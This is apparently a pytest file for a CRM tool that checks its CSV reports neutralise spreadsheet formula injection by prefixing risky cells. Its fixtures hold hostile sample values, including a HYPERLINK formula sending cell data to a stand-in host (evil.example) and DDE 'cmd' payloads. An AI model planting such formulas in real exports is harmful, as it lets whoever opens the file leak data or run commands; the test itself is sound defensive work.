"""Issue #14, finding 6: CSV that dealercrm writes must not run formulas in a spreadsheet.

A customer named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` went out raw in
``dealercrm report --format csv``, and so did party and actor names: whoever opened the
report in a spreadsheet got a live formula that can send the neighbouring cells away.
Every text cell that could start a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
return) now gets a leading apostrophe (``dealercrm.csv_out``); numbers stay numbers.
Every CSV writer in the source is found and must be that one.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import insert

import dealercrm
from dealercrm.cli import main
from dealercrm.csv_out import FORMULA_START, neutralise
from dealercrm.db.rule_models import RuleFiring
from dealercrm.settings import Settings

ROOT = Path(__file__).resolve().parents[2]
DEALER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MAKER = "+cmd|' /C calc'!A0"
CUSTOMER = "-2+3+cmd|' /C calc'!A0"
PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"

#: CSV writers that are not for people's spreadsheets, each with the reason
NOT_FOR_SPREADSHEETS = {
    "bench/import_customers.py": "generates dealercrm's own import input from fixed word lists; its phone "
                                 "numbers (+49 …) must reach the importer as they are",
}


@pytest.fixture
def evil_shop(tmp_path, clock):
    """Names chosen by whoever registers parties, people and customers, in every section of the report."""
    url = f"sqlite:///{tmp_path}/evil.db"
    crm = dealercrm.connect(url, clock=clock, settings=Settings())
    system = crm.system
    dealer = crm.parties.add("dealer", DEALER, by=system)
    person = crm.parties.add_actor(dealer.id, PERSON, "service", by=system)
    maker = crm.parties.add("manufacturer", MAKER, by=system)
    crm.parties.add_actor(maker.id, "Warranty desk", "warranty", by=system)
    customer = crm.customers.add(CUSTOMER, owner_party_id=dealer.id, account_owner_id=person.id, by=system)
    product = crm.products.add("EVIL-1", "Washer", manufacturer_party_id=maker.id, by=system)
    asset = crm.assets.record(customer.id, product.id, serial_number="E1", purchased_on=date(2026, 2, 20),
                              handed_over_on=date(2026, 2, 24), dealer_party_id=dealer.id, by=system)
    case = crm.cases.open(customer.id, "washes badly", asset_id=asset.id, by=person.id)
    crm.cases.fire(case.id, "start_diagnosis", by=person.id)
    crm.cases.fire(case.id, "forward_to_manufacturer", by=person.id)              # "cases": both parties
    crm.surveys.record(case.id, csat=1, nps=0, by=system)                         # "satisfaction": a negative NPS
    with crm.uow(system, "the loyal-quiet rule flagged them") as uow:             # "loyal_at_risk"
        uow.connection.execute(insert(RuleFiring.__table__).values(
            rule="rule_loyal_quiet", subject_id=customer.id, situation="quiet", customer_id=customer.id,
            at=uow.now, outcome="task"))
        uow.commit()
    crm.close()
    return url


def report_csv(url: str, capsys) -> list[list[str]]:
    assert main(["--db", url, "report", "--format", "csv"]) == 0
    return list(csv.reader(io.StringIO(capsys.readouterr().out)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_names_in_the_report_cannot_start_a_formula(evil_shop, capsys):
    rows = report_csv(evil_shop, capsys)
    cells = [cell for row in rows for cell in row]
    for name in (DEALER, MAKER, CUSTOMER, PERSON):
        assert "'" + name in cells, f"{name} missing or not neutralised"
    risky = [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]
    assert risky == []
    assert "-100.0" in cells  # the NPS of one detractor: a number, left as it is


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+49 171 5550100", "'+49 171 5550100"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("Erika Musterfrau", "Erika Musterfrau"), ("a=b", "a=b"), ("", ""),
    (-3.5, -3.5), (-100, -100), (None, None),
])
def test_each_cell_is_neutralised_as_owasp_advises(value, written):
    assert neutralise(value) == written


def test_every_csv_writer_in_the_source_neutralises(tmp_path):
    """``csv.writer``/``csv.DictWriter`` only in ``dealercrm.csv_out``, or listed above with a reason."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = {str(path.relative_to(ROOT)) for folder in ("core", "plugins", "workflows", "bench")
             for path in (ROOT / folder).rglob("*.py") if writers.search(path.read_text(encoding="utf-8"))}
    assert found - {"core/csv_out.py"} - set(NOT_FOR_SPREADSHEETS) == set(), "write CSV with dealercrm.csv_out.writer"
    assert set(NOT_FOR_SPREADSHEETS) <= found, "an exemption no longer needed: take it off the list"
    assert "core/csv_out.py" in found
